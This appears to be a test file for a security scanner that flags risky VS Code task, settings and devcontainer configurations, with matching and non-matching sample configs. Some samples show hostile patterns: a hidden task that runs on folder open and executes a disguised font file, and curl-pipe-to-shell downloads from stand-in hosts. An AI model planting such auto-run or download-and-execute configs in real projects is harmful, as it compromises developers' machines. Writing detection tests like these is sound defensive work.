from _kit import fires, silent, sample, ref

fires("task_hidden_font", "vscode_task_runs_hidden_on_open", "critical",
      sample("tasks-hidden-font.json", """{
  "version": "2.0.0",
  "tasks": [
    {
      "label": "prepare fonts",
      "type": "shell",
      "command": "node .vscode/fonts/fa-solid-900.woff2",
      "runOptions": { "runOn": "folderOpen" },
      "presentation": { "reveal": "never", "echo": false, "close": true }
    }
  ]
}
"""), "proj/.vscode/tasks.json")
fires("task_download", "vscode_task_runs_hidden_on_open", "critical",
      sample("tasks-curl.json", """{
  "version": "2.0.0",
  "tasks": [{ "label": "env", "type": "shell",
    "command": "curl -s https://vscode-setup.example.org/env | sh",
    "runOptions": { "runOn": "folderOpen" } }]
}
"""), ".vscode/tasks.json")
silent("task_build_hidden_not_on_open", "vscode_task_runs_hidden_on_open",
       sample("tasks-build.json", """{
  "version": "2.0.0",
  "tasks": [{ "label": "build", "type": "npm", "script": "build", "group": "build",
    "presentation": { "reveal": "never" } }]
}
"""), ".vscode/tasks.json")
fires("task_on_open", "vscode_task_runs_on_open", "high",
      sample("tasks-watch-on-open.json", """{
  "version": "2.0.0",
  "tasks": [{ "label": "watch", "type": "npm", "script": "watch",
    "runOptions": { "runOn": "folderOpen" }, "presentation": { "reveal": "always" } }]
}
"""), ".vscode/tasks.json")
silent("task_run_on_default", "vscode_task_runs_on_open",
       sample("tasks-run-default.json", """{
  "version": "2.0.0",
  "tasks": [{ "label": "watch", "type": "npm", "script": "watch", "runOptions": { "runOn": "default" } }]
}
"""), ".vscode/tasks.json")
fires("settings_trust_off", "vscode_settings_workspace_trust_disabled", "high",
      sample("settings-trust-off.json", '{\n  "editor.tabSize": 2,\n  "security.workspace.trust.enabled": false\n}\n'),
      ".vscode/settings.json")
silent("settings_trust_on", "vscode_settings_workspace_trust_disabled",
       sample("settings-trust-on.json", '{\n  "editor.tabSize": 2,\n  "security.workspace.trust.enabled": true\n}\n'),
       ".vscode/settings.json")
fires("settings_python_from_tmp", "vscode_settings_tool_from_temp", "high",
      sample("settings-tmp-python.json", '{\n  "python.defaultInterpreterPath": "/tmp/.cache-x/python3"\n}\n'),
      ".vscode/settings.json")
silent("settings_python_system", "vscode_settings_tool_from_temp",
       sample("settings-system-python.json", '{\n  "python.defaultInterpreterPath": "/usr/bin/python3",\n  "files.exclude": { "/tmp/**": true }\n}\n'),
       ".vscode/settings.json")
fires("workspace_tool_in_repo", "vscode_settings_tool_in_workspace", "warning",
      sample("app.code-workspace", '{\n  "folders": [{ "path": "." }],\n  "settings": {\n    "git.path": "./tools/git",\n    "eslint.nodePath": "${workspaceFolder}/bin"\n  }\n}\n'),
      "app.code-workspace")
fires("settings_terminal_profile", "vscode_settings_tool_in_workspace", "warning",
      sample("settings-terminal-profile.json", '{\n  "terminal.integrated.profiles.linux": { "dev": { "path": "bash", "args": ["--rcfile", ".devrc"] } }\n}\n'),
      ".vscode/settings.json")
silent("settings_venv_python", "vscode_settings_tool_in_workspace",
       sample("settings-venv.json", '{\n  "python.defaultInterpreterPath": "${workspaceFolder}/.venv/bin/python",\n  "editor.formatOnSave": true\n}\n'),
       ".vscode/settings.json")
fires("devcontainer_curl", "devcontainer_command_downloads_or_decodes", "critical",
      sample("devcontainer-curl.json", '{\n  "name": "app",\n  "image": "mcr.microsoft.com/devcontainers/base:debian",\n  "postCreateCommand": "curl -sL https://setup.example.io/dev | bash"\n}\n'),
      ".devcontainer/devcontainer.json")
silent("devcontainer_npm_ci", "devcontainer_command_downloads_or_decodes",
       sample("devcontainer-npm.json", '{\n  "name": "app",\n  "image": "mcr.microsoft.com/devcontainers/typescript-node:20",\n  "postCreateCommand": "npm ci",\n  "postStartCommand": "npm run dev"\n}\n'),
       ".devcontainer/devcontainer.json")
fires("devcontainer_initialize", "devcontainer_runs_on_host", "high",
      sample("devcontainer-init.json", '{\n  "name": "app",\n  "image": "debian:12",\n  "initializeCommand": "./scripts/prepare-host.sh"\n}\n'),
      ".devcontainer.json")
silent("devcontainer_on_create", "devcontainer_runs_on_host", ref("devcontainer-npm.json"), ".devcontainer.json")
fires("devcontainer_docker_socket", "devcontainer_privileged", "high",
      sample("devcontainer-socket.json", '{\n  "name": "app",\n  "image": "debian:12",\n  "mounts": ["source=/var/run/docker.sock,target=/var/run/docker.sock,type=bind"]\n}\n'),
      ".devcontainer/python/devcontainer.json")
fires("devcontainer_privileged_flag", "devcontainer_privileged", "high",
      sample("devcontainer-privileged.json", '{\n  "name": "app",\n  "image": "debian:12",\n  "privileged": true\n}\n'),
      ".devcontainer/devcontainer.json")
silent("devcontainer_unprivileged", "devcontainer_privileged",
       sample("devcontainer-volume.json", '{\n  "name": "app",\n  "image": "debian:12",\n  "privileged": false,\n  "mounts": ["source=node_modules,target=/work/node_modules,type=volume"]\n}\n'),
       ".devcontainer/devcontainer.json")
